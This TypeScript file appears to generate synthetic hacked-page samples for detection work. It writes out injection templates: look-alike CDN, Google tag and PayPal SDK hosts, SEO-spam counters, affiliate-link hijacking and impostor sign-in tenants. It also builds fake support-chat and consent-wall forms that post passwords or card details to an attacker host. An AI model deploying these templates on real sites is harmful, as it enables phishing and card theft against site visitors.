const builderCdnLookalike = fresh28("script or stylesheet from a look-alike of a site builder's asset CDN (parastorage, website-files, squarespace, cdn.shopify, framerusercontent)", (page, rng) => {
  /** a look-alike of `real` (the builder's own registrable name): another spelling, or the same name on another TLD */
  const like = (real: string, others: ReadonlyArray<string>) => {
    const name = pick(rng, [real, ...others])
    return `${name}.${pick(rng, name === real ? ["net", "co", "io", "org", "app"] : ["com", "net", "co", "io"])}`
  }
  const [host, path] = pick(rng, [
    () => [`static.${like("parastorage", ["parastorage-cdn", "parasstorage", "para-storage", "wixstatic-cdn"])}`, `/services/wix-thunderbolt/dist/main.${hex(rng, 8)}.bundle.min.js`] as const,
    () => [`${pick(rng, ["assets-global", "cdn.prod", "uploads-ssl"])}.${like("website-files", ["website-files-cdn", "website-fi1es", "websitefiles"])}`, `/${hex(rng, 24)}/js/webflow.${hex(rng, 8)}.js`] as const,
    () => [`${pick(rng, ["static1", "assets"])}.${like("squarespace-cdn", ["squarspace", "squarespace-static", "sqsp-cdn"])}`, `/universal/scripts-compressed/site-bundle-${hex(rng, 20)}-min.en-US.js`] as const,
    () => [`cdn.${like("shopify", ["shopify-assets", "shoplfy", "shopifycloud-cdn", "shopify-static"])}`, `/s/files/1/0${digits(rng, 3)}/${digits(rng, 4)}/${digits(rng, 4)}/t/${between(rng, 2, 40)}/assets/${pick(rng, ["theme", "global", "vendor"])}.js?v=${digits(rng, 9)}`] as const,
    () => [like("framerusercontent", ["framerusercontent-cdn", "framer-usercontent"]), `/sites/${mixed(rng, 22)}/${pick(rng, ["script_main", "framer", "chunk"])}.${mixed(rng, 8)}.mjs`] as const
  ])()
  const css = chance(rng, 0.2)
  const tag = css
    ? `<link rel="stylesheet" href="https://${host}${path.replace(/\.(m?js)(\?.*)?$/, ".css")}">`
    : path.endsWith(".mjs") ? `<script type="module" src="https://${host}${path}"></script>` : `<script src="https://${host}${path}"${pick(rng, ["", " defer", " async"])}></script>`
  return splices(insert(scriptSpot(rng, page), tag))
})

// ———————————————————————————— tags and analytics ————————————————————————————

const tagHost = (rng: Rng, page: Page) =>
  pick(rng, [
    () => `${pick(rng, ["sgtm", "gtm", "tags", "tag", "metrics", "ss", "collect", "data", "load"])}.${brandLookalike(rng, page.site.brand)}`,
    () => `${pick(rng, ["www.", ""])}${pick(rng, ["googletagmanager", "google-analytics", "googletagservices", "googleanalytics", "gtagmanager"])}${pick(rng, ["-cdn", "-js", "s", "-tag", "-server"])}.${pick(rng, ["net", "org", "info", "co", "cc", "top", "xyz", "website", "io"])}`,
    () => `${pick(rng, ["gtm", "sgtm", "analytics", "tagging"])}-${alnum(rng, 6)}.${tld(rng)}`,
    () => `www.googletagmanager.com.${pick(rng, ["cdn-edge", "gtm-proxy", "tag-server", "sgtm"])}.${tld(rng)}`
  ])()

// Google tag look-alikes, recalled from memory of Sansec's and Malwarebytes' Magecart reports on skimmers served from hosts named like Google's tag and analytics hosts (googletagmanager and google-analytics typosquats, about 2020–2024) and of server-side Google Tag Manager's first-party tagging URLs (a tagging subdomain serving /gtm.js and /gtag/js): Google's own boilerplate (gtag.js, the GTM snippet or the older analytics.js one), word for word, with its script host changed to a look-alike or a "first-party tagging" host on another domain.
const googleTagLookalike = fresh28("Google tag boilerplate (gtag.js, GTM or analytics.js) loaded from a look-alike or 'first-party tagging' host on another domain", (page, rng) => {
  const h = tagHost(rng, page)
  const gid = `G-${upper(rng, 2)}${Array.from({ length: 8 }, () => pick(rng, [..."ABCDEFGHJKLMNPQRSTUVWXYZ0123456789"])).join("")}`
  const snippet = pick(rng, [
    () => `<script async src="https://${h}/gtag/js?id=${gid}"></script><script>window.dataLayer=window.dataLayer||[];function gtag(){dataLayer.push(arguments);}gtag('js',new Date());gtag('config','${gid}');</script>`,
    () => `<script>(function(w,d,s,l,i){w[l]=w[l]||[];w[l].push({'gtm.start':new Date().getTime(),event:'gtm.js'});var f=d.getElementsByTagName(s)[0],j=d.createElement(s),dl=l!='dataLayer'?'&l='+l:'';j.async=true;j.src='https://${h}/gtm.js?id='+i+dl;f.parentNode.insertBefore(j,f);})(window,document,'script','dataLayer','GTM-${upper(rng, 1)}${Array.from({ length: 6 }, () => pick(rng, [..."ABCDEFGHJKLMNPQRSTUVWXYZ0123456789"])).join("")}');</script>`,
    () => `<script>(function(i,s,o,g,r,a,m){i['GoogleAnalyticsObject']=r;i[r]=i[r]||function(){(i[r].q=i[r].q||[]).push(arguments)},i[r].l=1*new Date();a=s.createElement(o),m=s.getElementsByTagName(o)[0];a.async=1;a.src=g;m.parentNode.insertBefore(a,m)})(window,document,'script','https://${h}/analytics.js','ga');ga('create','UA-${digits(rng, between(rng, 6, 9))}-${between(rng, 1, 4)}','auto');ga('send','pageview');</script>`
  ])()
  return splices(insert(pick(rng, [headStart(page), head(page), head(page), bottom(page)]), snippet))
})

// Chinese SEO kits, recalled from memory of Sucuri's and Wordfence's clean-up notes on Chinese gambling and game-server spam injected into hacked sites (about 2019–2024) and of the snippets Chinese webmasters paste (Baidu Tongji hm.js, Baidu's link auto-push push.js, 51.la, CNZZ/Umeng, 360 and Toutiao auto-push): the kit's counters and push scripts under the intruder's ids, so that the search engines are told of the spam pages and the intruder counts the traffic; nothing else shown.
const seoKitCounters = fresh28("Chinese SEO kit's counters and link auto-push scripts (Baidu Tongji, Baidu push, 51.la, CNZZ, 360, Toutiao) under the intruder's ids, nothing shown", (page, rng) => {
  const parts = sample(rng, [
    () => `<script>var _hmt=_hmt||[];(function(){var hm=document.createElement("script");hm.src="https://hm.baidu.com/hm.js?${hex(rng, 32)}";var s=document.getElementsByTagName("script")[0];s.parentNode.insertBefore(hm,s);})();</script>`,
    () => `<script>(function(){var bp=document.createElement('script');var curProtocol=window.location.protocol.split(':')[0];if(curProtocol==='https'){bp.src='https://zz.bdstatic.com/linksubmit/push.js';}else{bp.src='http://push.zhanzhang.baidu.com/push.js';}var s=document.getElementsByTagName("script")[0];s.parentNode.insertBefore(bp,s);})();</script>`,
    () => `<script charset="UTF-8" id="LA_COLLECT" src="//sdk.51.la/js-sdk-pro.min.js"></script><script>LA.init({id:"${mixed(rng, 16)}",ck:"${mixed(rng, 16)}"${chance(rng, 0.5) ? ",autoTrack:true,hashMode:true" : ""}})</script>`,
    () => `<script type="text/javascript" src="https://${pick(rng, ["s4", "s9", "s19", "v1"])}.cnzz.com/z_stat.php?id=${digits(rng, 10)}&web_id=${digits(rng, 10)}"></script>`,
    () => `<script>(function(){var src="https://jspassport.ssl.qhimg.com/11.0.1.js?d182b3f28525f2db83acfaaf6e696dba";document.write('<script src="'+src+'" id="sozz"><\\/script>');})();</script>`,
    () => `<script>(function(){var el=document.createElement("script");el.src="https://lf1-cdn-tos.bytegoofy.com/goofy/ttzz/push.js?${hex(rng, 64)}";el.id="ttzz";var s=document.getElementsByTagName("script")[0];s.parentNode.insertBefore(el,s);})(window)</script>`
  ], between(rng, 2, 4)).map((f) => f())
  const at = pick(rng, [bottom(page), bottom(page), head(page), slotAt(page.spots, "bottom")])
  return splices(insert(at, parts.join(pick(rng, ["", "\n"]))))
})

const statsHost = (rng: Rng, page: Page) =>
  pick(rng, [
    () => `${pick(rng, ["stats", "analytics", "matomo", "piwik", "metrics", "a", "count"])}.${randomDomain(rng)}`,
    () => `${pick(rng, ["stats", "analytics", "matomo"])}.${brandLookalike(rng, page.site.brand)}`,
    () => `${alnum(rng, between(rng, 5, 9))}.${tld(rng)}`
  ])()

// Self-hosted analytics as a cover, recalled from memory of Matomo's, Plausible's and Umami's tracking snippets (a host of the owner's choosing, about 2018 onwards) and of Sucuri and Sansec notes on injected "analytics" whose server answered with a skimmer or a redirect: a self-hosted analytics snippet pointing at an unrelated or look-alike host, its site id and the page's host filled in, nothing shown.
const selfHostedStats = fresh28("self-hosted analytics snippet (Matomo, Plausible, Umami) pointing at an unrelated or look-alike host", (page, rng) => {
  const h = statsHost(rng, page)
  const snippet = pick(rng, [
    () => `<script>var _paq=window._paq=window._paq||[];_paq.push(['trackPageView']);_paq.push(['enableLinkTracking']);(function(){var u="https://${h}/";_paq.push(['setTrackerUrl',u+'${pick(rng, ["matomo.php", "piwik.php"])}']);_paq.push(['setSiteId','${between(rng, 1, 400)}']);var d=document,g=d.createElement('script'),s=d.getElementsByTagName('script')[0];g.async=true;g.src=u+'${pick(rng, ["matomo.js", "piwik.js"])}';s.parentNode.insertBefore(g,s);})();</script>`,
    () => `<script defer data-domain="${page.site.host}" src="https://${h}/js/${pick(rng, ["script.js", "script.outbound-links.js", "plausible.js", "script.tagged-events.js"])}"></script>`,
    () => `<script defer src="https://${h}/${pick(rng, ["script.js", "umami.js", "u.js"])}" data-website-id="${uuid(rng)}"></script>`
  ])()
  return splices(insert(pick(rng, [head(page), head(page), bottom(page)]), snippet))
})

// Link monetisation under someone else's account, recalled from memory of Wordfence's and Sucuri's notes on nulled themes and backdoored plugins that add affiliate scripts (about 2017–2024) and of the snippets of link-monetisation services (Skimlinks, Sovrn Commerce formerly VigLink, Amazon OneLink): the service's script under a publisher id that is not the site's, rewriting the page's outbound links at click time so the commissions go to that account.
const linkMonetizer = fresh28("link-monetisation script (Skimlinks, Sovrn/VigLink, Amazon OneLink) under a publisher id that is not the site's, rewriting outbound links at click time", (page, rng) => {
  const snippet = pick(rng, [
    () => `<script type="text/javascript" src="https://s.skimresources.com/js/${digits(rng, 6)}X${digits(rng, 7)}.skimlinks.js"></script>`,
    () => `<script type="text/javascript">var vglnk={key:'${hex(rng, 32)}'};(function(d,t){var s=d.createElement(t);s.type='text/javascript';s.async=true;s.src='//cdn.viglink.com/api/vglnk.js';var r=d.getElementsByTagName(t)[0];r.parentNode.insertBefore(s,r);}(document,'script'));</script>`,
    () => `<div id="amzn-assoc-ad-${uuid(rng)}"></div><script async src="//z-na.amazon-adsystem.com/widgets/onejs?MarketPlace=${pick(rng, ["US", "GB", "DE", "FR", "ES", "IT"])}&adInstanceId=${uuid(rng)}"></script>`
  ])()
  return splices(insert(pick(rng, [bottom(page), bottom(page), head(page)]), snippet))
})

// Storefront app script tags, recalled from memory of Shopify's ScriptTag API and theme asyncLoad block (apps' scripts listed with ?shop=<store>.myshopify.com and loaded on window load, about 2015 onwards) and of Sansec's notes on skimmers registered as storefront app scripts: the asyncLoad block with the script of an app nobody installed (an unknown app host named like a review, upsell or currency app), sometimes beside a real app's script.
const storefrontScriptTag = fresh28("storefront app script tag (Shopify asyncLoad block with ?shop=<store>.myshopify.com) from an unknown app host", (page, rng) => {
  const shop = `${bare(page)}${pick(rng, ["", "-store", "-shop", `-${alnum(rng, 3)}`])}.myshopify.com`
  const app = `${pick(rng, ["cdn", "app", "js", "static", "widget"])}.${pick(rng, ["reviewify", "upsellio", "cartboost", "currency-pro", "trustbadge", "freeship-bar", "bundler-plus", "salespop", "stickycart", "geo-price"])}${pick(rng, ["", "-app", "apps", "-cdn"])}.${pick(rng, ["com", "io", "app", "net", "co", "shop"])}`
  const evil = `https://${app}/${pick(rng, ["js/app.js", "script.js", "embed/loader.js", `storefront/${alnum(rng, 8)}.js`, "widget.min.js"])}?shop=${shop}`
  const real = chance(rng, 0.4) ? [`https://static.klaviyo.com/onsite/js/klaviyo.js?company_id=${upper(rng, 6)}&shop=${shop}`] : []
  const urls = chance(rng, 0.5) ? [...real, evil] : [evil, ...real]
  const block = chance(rng, 0.7)
    ? `<script>(function(){function asyncLoad(){var urls=[${urls.map((u) => js(u)).join(",")}];for(var i=0;i<urls.length;i++){var s=document.createElement('script');s.type='text/javascript';s.async=true;s.src=urls[i];var x=document.getElementsByTagName('script')[0];x.parentNode.insertBefore(s,x);}};if(window.attachEvent){window.attachEvent('onload',asyncLoad);}else{window.addEventListener('load',asyncLoad,false);}})();</script>`
    : `<script src="${esc(evil)}" async></script>`
  return splices(insert(pick(rng, [head(page), head(page), bottom(page)]), block))
})

// ———————————————————————————— sign-in, payment and support widgets ————————————————————————————

const signLabels: T<readonly [string, string, string]> = {
  en: ["Sign in", "Create account", "My account"],
  fr: ["Se connecter", "Créer un compte", "Mon compte"],
  de: ["Anmelden", "Konto erstellen", "Mein Konto"],
  es: ["Iniciar sesión", "Crear cuenta", "Mi cuenta"],
  nl: ["Inloggen", "Account aanmaken", "Mijn account"],
  pt: ["Entrar", "Criar conta", "Minha conta"],
  it: ["Accedi", "Crea account", "Il mio account"]
}
const accountRe = /(log-?in|sign-?in|signin|account|my-?account|member|anmelden|connexion|konto|mi-cuenta|inloggen|entrar|accedi|portal|profile|register|subscribe|abonn)/i

// Impostor tenants on real identity providers, recalled from memory of phishing reports on lookalike tenants of Okta, Auth0, Azure AD B2C and Cognito (Okta's and Proofpoint's warnings about attackers registering tenants named after their targets, about 2022–2024): the site's sign-in and account links (or new ones) sent to a tenant on the real identity provider's domain whose name imitates the site's, with an OAuth-style authorize path and a callback on another host, sometimes with the provider's sign-in SDK set up for that tenant.
const idpTenant = fresh28("sign-in and account links sent to a look-alike tenant of the site on a real identity provider (Auth0, Okta, Azure AD B2C, Cognito), callback on another host", (page, rng) => {
  const b = bare(page)
  const name = pick(rng, [`${b}-login`, `${b}-secure`, `${b}${digits(rng, 2)}`, `login-${b}`, `${b}-prod`, `${b}-id`, `${b}-sso`, `${b}-auth`, `my${b}`])
  const cb = encodeURIComponent(`https://${evilHost(rng, page)}/${pick(rng, ["callback", "auth/callback", "oauth2/cb", "signin-oidc"])}`)
  const client = alnum(rng, 32)
  const [url, sdk] = pick(rng, [
    () => { const t = `${name}.${pick(rng, ["eu", "us", "uk", "au"])}.auth0.com`; return [`https://${t}/authorize?response_type=code&client_id=${client}&redirect_uri=${cb}&scope=openid%20profile%20email`, `<script src="https://cdn.auth0.com/js/auth0-spa-js/2.1/auth0-spa-js.production.js"></script><script>auth0.createAuth0Client({domain:${js(t)},clientId:${js(client)},authorizationParams:{redirect_uri:decodeURIComponent(${js(cb)})}}).then(function(c){window.__a0=c})</script>`] as const },
    () => { const t = `${name}.${pick(rng, ["okta.com", "oktapreview.com", "okta-emea.com"])}`; return [`https://${t}/oauth2/default/v1/authorize?client_id=${alnum(rng, 20)}&response_type=code&scope=openid&redirect_uri=${cb}&state=${alnum(rng, 12)}`, `<script src="https://global.oktacdn.com/okta-signin-widget/7.${between(rng, 10, 24)}.0/js/okta-sign-in.min.js"></script><script>window.__okta=new OktaSignIn({baseUrl:${js(`https://${t}`)},redirectUri:decodeURIComponent(${js(cb)})})</script>`] as const },
    () => { const t = `${name}.b2clogin.com`; return [`https://${t}/${name}.onmicrosoft.com/B2C_1_signupsignin/oauth2/v2.0/authorize?client_id=${uuid(rng)}&response_type=code&redirect_uri=${cb}&scope=openid`, ""] as const },
    () => { const t = `${name}.auth.${pick(rng, ["eu-west-1", "us-east-1", "eu-central-1", "ap-southeast-2"])}.amazoncognito.com`; return [`https://${t}/login?client_id=${alnum(rng, 26)}&response_type=code&scope=email+openid&redirect_uri=${cb}`, ""] as const }
  ])()
  const targets = links(page).filter((a) => accountRe.test(a.attribs.href ?? "") || accountRe.test(textOf(page, a)))
  const out: Array<Splice> = sample(rng, targets, between(rng, 1, 3)).flatMap((a) => {
    const v = attrValue(page.html, a, "href")
    return v === null ? [] : [replace(v, esc(url))]
  })
  if (out.length === 0) {
    const [signIn, create, mine] = siteOr(rng, page, signLabels)
    const bar = pick(rng, [
      `<p class="account-links" style="text-align:right;margin:4px 12px"><a href="${esc(url)}">${esc(signIn)}</a> · <a href="${esc(url)}&amp;screen_hint=signup">${esc(create)}</a></p>`,
      `<div class="header-account"><a class="button" href="${esc(url)}">${esc(mine)}</a></div>`
    ])
    out.push(insert(pick(rng, [top(page), slotAt(page.spots, "top")]), bar))
  }
  if (sdk !== "" && chance(rng, 0.5)) out.push(insert(head(page), sdk))
  return { splices: out }
})

interface ChatWords {
  readonly team: string
  readonly replies: string
  readonly intro: string
  readonly introCard: string
  readonly name: string
  readonly email: string
  readonly password: string
  readonly order: string
  readonly card: string
  readonly expiry: string
  readonly start: string
  readonly secure: string
}
const chatWords: T<ChatWords> = {
  en: { team: "Support", replies: "We typically reply in a few minutes", intro: "To protect your account, please confirm your details before we connect you to an agent.", introCard: "To look up your order, please verify the card you paid with.", name: "Name", email: "E-mail", password: "Account password", order: "Order number", card: "Card number", expiry: "Expiry (MM/YY)", start: "Start chat", secure: "Your details are encrypted and only used to verify you." },
  fr: { team: "Assistance", replies: "Nous répondons généralement en quelques minutes", intro: "Pour protéger votre compte, confirmez vos informations avant d'être mis en relation avec un conseiller.", introCard: "Pour retrouver votre commande, veuillez vérifier la carte utilisée pour le paiement.", name: "Nom", email: "E-mail", password: "Mot de passe du compte", order: "Numéro de commande", card: "Numéro de carte", expiry: "Expiration (MM/AA)", start: "Démarrer la discussion", secure: "Vos données sont chiffrées et servent uniquement à vous identifier." },
  de: { team: "Kundenservice", replies: "Wir antworten meist innerhalb weniger Minuten", intro: "Zum Schutz Ihres Kontos bestätigen Sie bitte Ihre Daten, bevor wir Sie mit einem Mitarbeiter verbinden.", introCard: "Um Ihre Bestellung zu finden, bestätigen Sie bitte die Karte, mit der Sie bezahlt haben.", name: "Name", email: "E-Mail", password: "Kontopasswort", order: "Bestellnummer", card: "Kartennummer", expiry: "Gültig bis (MM/JJ)", start: "Chat starten", secure: "Ihre Daten werden verschlüsselt und nur zur Überprüfung verwendet." },
  es: { team: "Atención al cliente", replies: "Solemos responder en pocos minutos", intro: "Para proteger tu cuenta, confirma tus datos antes de que te pongamos en contacto con un agente.", introCard: "Para localizar tu pedido, verifica la tarjeta con la que pagaste.", name: "Nombre", email: "Correo electrónico", password: "Contraseña de la cuenta", order: "Número de pedido", card: "Número de tarjeta", expiry: "Caducidad (MM/AA)", start: "Iniciar chat", secure: "Tus datos están cifrados y solo se usan para verificarte." },
  nl: { team: "Klantenservice", replies: "We reageren meestal binnen enkele minuten", intro: "Ter bescherming van je account vragen we je je gegevens te bevestigen voordat we je met een medewerker verbinden.", introCard: "Om je bestelling op te zoeken, vragen we je de kaart te bevestigen waarmee je hebt betaald.", name: "Naam", email: "E-mail", password: "Wachtwoord van je account", order: "Bestelnummer", card: "Kaartnummer", expiry: "Vervaldatum (MM/JJ)", start: "Chat starten", secure: "Je gegevens worden versleuteld en alleen gebruikt om je te verifiëren." },
  pt: { team: "Atendimento", replies: "Normalmente respondemos em poucos minutos", intro: "Para proteger sua conta, confirme seus dados antes de ser conectado a um atendente.", introCard: "Para localizar seu pedido, confirme o cartão usado no pagamento.", name: "Nome", email: "E-mail", password: "Senha da conta", order: "Número do pedido", card: "Número do cartão", expiry: "Validade (MM/AA)", start: "Iniciar conversa", secure: "Seus dados são criptografados e usados apenas para verificação." },
  it: { team: "Assistenza", replies: "Di solito rispondiamo in pochi minuti", intro: "Per proteggere il tuo account, conferma i tuoi dati prima di essere messo in contatto con un operatore.", introCard: "Per trovare il tuo ordine, verifica la carta con cui hai pagato.", name: "Nome", email: "E-mail", password: "Password dell'account", order: "Numero d'ordine", card: "Numero di carta", expiry: "Scadenza (MM/AA)", start: "Avvia la chat", secure: "I tuoi dati sono cifrati e usati solo per verificarti." }
}
const chatVendors = [
  { id: "intercom-container", cls: "intercom-namespace intercom-messenger", color: "#0057ff" },
  { id: "launcher", cls: "zEWidget-webWidget", color: "#1f73b7" },
  { id: "tidio-chat", cls: "tidio-chat-widget", color: "#0566ff" },
  { id: "chat-widget-container", cls: "lc-chat-widget", color: "#ff5100" },
  { id: "crisp-chatbox", cls: "crisp-client cc-1brb6", color: "#1972f5" },
  { id: "fc_frame", cls: "fc-widget-normal", color: "#2c5cc5" },
  { id: "drift-frame-chat", cls: "drift-conductor-item", color: "#0176ff" }
] as const

// Fake support chats, recalled from memory of Trustwave SpiderLabs' report on a phishing page with a chatbot that walked victims to a card form (about May 2022), of Sansec notes on skimmers dressed as chat widgets (Inbenta at Ticketmaster, June 2018) and of support-impersonation kits: a launcher and open panel drawn like a well-known chat widget, in the site's name, whose "pre-chat" form asks for the account password, or the card paid with, and posts to another host.
const chatPrechat = fresh28("look-alike support chat (Intercom, Zendesk, Tidio, LiveChat, Crisp look) whose pre-chat form asks for the account password or the card, posting to another host", (page, rng) => {
  const w = siteOr(rng, page, chatWords)
  const v = pick(rng, chatVendors)
  const card = chance(rng, 0.45)
  const f = font(rng)
  const input = (label: string, name: string, type: string, extra = "") => `<label style="display:block;margin:0 0 8px;font-size:13px">${esc(label)}<br><input type="${type}" name="${name}"${extra} style="width:100%;box-sizing:border-box;padding:8px;border:1px solid #ccd;border-radius:6px"></label>`
  const fields = card
    ? input(w.order, "order", "text") + input(w.card, "cardnumber", "text", ` inputmode="numeric" autocomplete="cc-number"`) + `<div style="display:flex;gap:8px">${input(w.expiry, "exp", "text", ` autocomplete="cc-exp"`)}${input("CVC", "cvc", "text", ` inputmode="numeric" autocomplete="cc-csc"`)}</div>`
    : input(w.name, "name", "text") + input(w.email, "email", "email", ` autocomplete="email"`) + input(w.password, "password", "password", ` autocomplete="current-password"`)
  const action = `https://${evilHost(rng, page)}/${pick(rng, ["chat/prechat", "api/v1/conversations", "widget/start", "livechat/session", "support/verify"])}`
  const right = pick(rng, ["right:20px", "right:24px", "left:20px"])
  const panel = `<div id="${v.id}" class="${v.cls}" style="position:fixed;${right};bottom:90px;z-index:${zTop(rng)};width:340px;max-width:calc(100vw - 40px);font:14px/1.45 ${f};background:#fff;color:#222;border-radius:12px;box-shadow:0 6px 40px rgba(0,0,0,.2);overflow:hidden"><div style="background:${v.color};color:#fff;padding:16px 18px"><strong>${esc(brandName(page))} ${esc(w.team)}</strong><br><small>${esc(w.replies)}</small></div><form action="${esc(action)}" method="post" style="padding:14px 18px"><p style="margin:0 0 10px">${esc(card ? w.introCard : w.intro)}</p>${fields}<button type="submit" style="width:100%;padding:10px;border:0;border-radius:6px;background:${v.color};color:#fff;font-weight:600">${esc(w.start)}</button><p style="margin:8px 0 0;font-size:11px;color:#667">&#128274; ${esc(w.secure)}</p></form></div>`
  const launcher = `<button type="button" aria-label="${esc(w.team)}" style="position:fixed;${right};bottom:20px;z-index:${zTop(rng)};width:60px;height:60px;border-radius:50%;border:0;background:${v.color};color:#fff;font-size:26px;box-shadow:0 4px 16px rgba(0,0,0,.25)">&#128172;</button>`
  return splices(insert(overlaySpot(rng, page), panel + launcher))
})

interface WallWords {
  readonly title: string
  readonly body: (n: number) => string
  readonly accept: string
  readonly pur: (price: string) => string
  readonly email: string
  readonly card: string
  readonly expiry: string
  readonly subscribe: string
  readonly cancel: string
}
const wallWords: T<WallWords> = {
  en: { title: "Your choice for using our site", body: (n) => `We and our ${n} partners use cookies to fund our work with advertising. You can accept them and continue for free, or read without ads and tracking.`, accept: "Accept all and continue", pur: (p) => `Ad-free for ${p} per month`, email: "E-mail", card: "Card number", expiry: "MM/YY", subscribe: "Subscribe ad-free", cancel: "Cancel at any time." },
  fr: { title: "Votre choix pour utiliser notre site", body: (n) => `Nous et nos ${n} partenaires utilisons des cookies pour financer notre travail par la publicité. Vous pouvez les accepter et continuer gratuitement, ou lire sans publicité ni suivi.`, accept: "Tout accepter et continuer", pur: (p) => `Sans publicité pour ${p} par mois`, email: "E-mail", card: "Numéro de carte", expiry: "MM/AA", subscribe: "S'abonner sans publicité", cancel: "Résiliable à tout moment." },
  de: { title: "Ihre Wahl für die Nutzung unserer Website", body: (n) => `Wir und unsere ${n} Partner verwenden Cookies, um unsere Arbeit mit Werbung zu finanzieren. Sie können zustimmen und kostenlos weiterlesen oder ohne Werbung und Tracking lesen.`, accept: "Alle akzeptieren und weiter", pur: (p) => `Werbefrei für ${p} im Monat`, email: "E-Mail", card: "Kartennummer", expiry: "MM/JJ", subscribe: "Werbefrei abonnieren", cancel: "Jederzeit kündbar." },
  es: { title: "Tu elección para usar nuestro sitio", body: (n) => `Nosotros y nuestros ${n} socios usamos cookies para financiar nuestro trabajo con publicidad. Puedes aceptarlas y seguir gratis, o leer sin anuncios ni seguimiento.`, accept: "Aceptar todo y continuar", pur: (p) => `Sin anuncios por ${p} al mes`, email: "Correo electrónico", card: "Número de tarjeta", expiry: "MM/AA", subscribe: "Suscribirse sin anuncios", cancel: "Cancela cuando quieras." },
  nl: { title: "Jouw keuze voor het gebruik van onze site", body: (n) => `Wij en onze ${n} partners gebruiken cookies om ons werk met advertenties te bekostigen. Je kunt ze accepteren en gratis verder lezen, of lezen zonder advertenties en tracking.`, accept: "Alles accepteren en doorgaan", pur: (p) => `Advertentievrij voor ${p} per maand`, email: "E-mail", card: "Kaartnummer", expiry: "MM/JJ", subscribe: "Advertentievrij abonneren", cancel: "Altijd opzegbaar." },
  pt: { title: "Sua escolha para usar nosso site", body: (n) => `Nós e nossos ${n} parceiros usamos cookies para financiar nosso trabalho com publicidade. Você pode aceitá-los e continuar de graça, ou ler sem anúncios e rastreamento.`, accept: "Aceitar tudo e continuar", pur: (p) => `Sem anúncios por ${p} por mês`, email: "E-mail", card: "Número do cartão", expiry: "MM/AA", subscribe: "Assinar sem anúncios", cancel: "Cancele quando quiser." },
  it: { title: "La tua scelta per usare il nostro sito", body: (n) => `Noi e i nostri ${n} partner usiamo i cookie per finanziare il nostro lavoro con la pubblicità. Puoi accettarli e continuare gratis, oppure leggere senza pubblicità né tracciamento.`, accept: "Accetta tutto e continua", pur: (p) => `Senza pubblicità a ${p} al mese`, email: "E-mail", card: "Numero di carta", expiry: "MM/AA", subscribe: "Abbonati senza pubblicità", cancel: "Disdici quando vuoi." }
}

// "Pay or okay" consent walls turned into card traps, recalled from memory of the honest walls of German and Austrian publishers (contentpass and publishers' own "Pur-Abo", about 2018 onwards; Meta's subscription for no ads, November 2023) and of phishing kits that copy familiar consent dialogs: a full-window consent wall in the site's name whose ad-free option takes the card details in place and posts them to another host.
const payOrOkay = fresh28("look-alike 'accept cookies or subscribe ad-free' consent wall whose subscription option takes card details and posts them to another host", (page, rng) => {
  const w = siteOr(rng, page, wallWords)
  const price = page.site.locale.money(pick(rng, [1.99, 2.99, 3.99, 4.99]))
  const action = `https://${evilHost(rng, page)}/${pick(rng, ["pur/subscribe", "checkout/adfree", "consent/pay", "abo/start", "billing/session"])}`
  const inp = (ph: string, name: string, ac: string) => `<input name="${name}" placeholder="${esc(ph)}" autocomplete="${ac}" style="display:block;width:100%;box-sizing:border-box;margin:0 0 8px;padding:9px;border:1px solid #bbb;border-radius:4px">`
  const html = `<div id="${pick(rng, ["cmp-wall", "consent-wall", "sp_message_container_" + digits(rng, 6), "pur-layer"])}" role="dialog" aria-modal="true" style="position:fixed;inset:0;z-index:${zTop(rng)};background:rgba(0,0,0,.6);display:flex;align-items:center;justify-content:center;font:15px/1.5 ${font(rng)}"><div style="background:#fff;color:#222;max-width:720px;width:92%;border-radius:8px;padding:24px 28px"><h2 style="margin:0 0 8px;font-size:20px">${esc(w.title)}</h2><p style="margin:0 0 16px">${esc(w.body(between(rng, 120, 900)))}</p><div style="display:flex;flex-wrap:wrap;gap:20px"><div style="flex:1;min-width:220px"><button type="button" onclick="this.closest('[role=dialog]').remove()" style="width:100%;padding:12px;border:0;border-radius:4px;background:#1a73e8;color:#fff;font-weight:600">${esc(w.accept)}</button></div><form action="${esc(action)}" method="post" style="flex:1;min-width:220px"><strong style="display:block;margin:0 0 8px">${esc(w.pur(price))}</strong>${inp(w.email, "email", "email")}${inp(w.card, "card", "cc-number")}<div style="display:flex;gap:8px">${inp(w.expiry, "exp", "cc-exp")}${inp("CVC", "cvc", "cc-csc")}</div><button type="submit" style="width:100%;padding:12px;border:1px solid #1a73e8;border-radius:4px;background:#fff;color:#1a73e8;font-weight:600">${esc(w.subscribe)}</button><small style="color:#666">${esc(w.cancel)}</small></form></div></div></div>`
  return splices(insert(overlaySpot(rng, page), html))
})

const payHost = (rng: Rng) =>
  pick(rng, [
    `www.${pick(rng, ["paypal-sdk", "paypalobjects-cdn", "paypal-checkout", "paypai", "paypa1", "paypal-js"])}.${pick(rng, ["com", "net", "co", "io", "app"])}`,
    `sdk.${pick(rng, ["paypal-js", "pp-checkout", "paypalcdn"])}.${pick(rng, ["com", "net", "top"])}`,
    `www.paypal.com.${pick(rng, ["sdk-edge", "checkout-js", "secure-pay"])}.${pick(rng, ["com", "net", "xyz", "site"])}`
  ])

// Look-alike payment SDKs, recalled from memory of Jscrambler's and Sansec's reports on skimmers that draw fake PayPal and card buttons (about 2020–2023) and of PayPal's JavaScript SDK (www.paypal.com/sdk/js?client-id=...&currency=..., buttons rendered into a container): PayPal checkout buttons next to one of the page's prices, from a look-alike of PayPal's SDK host, their window a sign-in and card form on that host.
const paypalLookalike = fresh28("PayPal checkout buttons beside a price, rendered by a script from a look-alike of PayPal's SDK host", (page, rng) => {
  const host = payHost(rng)
  const ns = pick(rng, ["paypal", "paypal_sdk", "paypalSDK"])
  const box = `paypal-button-container-${alnum(rng, 6)}`
  const html = `<div class="${pick(rng, ["paypal-buttons", "pay-with-paypal", "checkout-buttons"])}" style="max-width:${pick(rng, ["300", "360", "400"])}px;margin:12px 0"><div id="${box}"></div></div><script src="https://${host}/sdk/js?client-id=${mixed(rng, 80)}&currency=${currency(page)}&components=buttons${chance(rng, 0.5) ? ",funding-eligibility" : ""}&intent=capture"${ns === "paypal" ? "" : ` data-namespace="${ns}"`}></script><script>${ns}.Buttons({style:{layout:'${pick(rng, ["vertical", "horizontal"])}',color:'${pick(rng, ["gold", "blue", "silver"])}'}}).render('#${box}');</script>`
  return splices(insert(nearPrice(rng, page), html))
})

const buyLabels: T<string> = { en: "Buy now", fr: "Acheter", de: "Jetzt kaufen", es: "Comprar ahora", nl: "Nu kopen", pt: "Comprar agora", it: "Acquista ora" }

